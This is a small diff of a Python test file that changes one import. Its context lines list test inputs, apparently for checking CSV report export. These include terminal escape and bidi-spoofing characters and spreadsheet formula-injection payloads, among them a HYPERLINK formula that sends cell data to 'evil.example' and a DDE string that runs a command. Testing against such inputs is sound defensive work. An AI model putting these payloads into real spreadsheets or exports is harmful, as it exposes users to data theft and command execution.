@@ -17,7 +17,7 @@ from models.wording import cell, visible
 from streams.reports.counters import of_events
 from streams.reports.files import csv_bytes
 from tests.builders import received, thai_binh
-from tests.unit.test_cli import lotrinh
+from tests.commands import typed as lotrinh
 
 STEERING = ("\x9b31m", "\x1b]0;x\x07", "\u202egnp.exe", "\u2066", "\u200b", "\u2028", "\x85", "\U000e0001")
 FORMULAS = ('=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
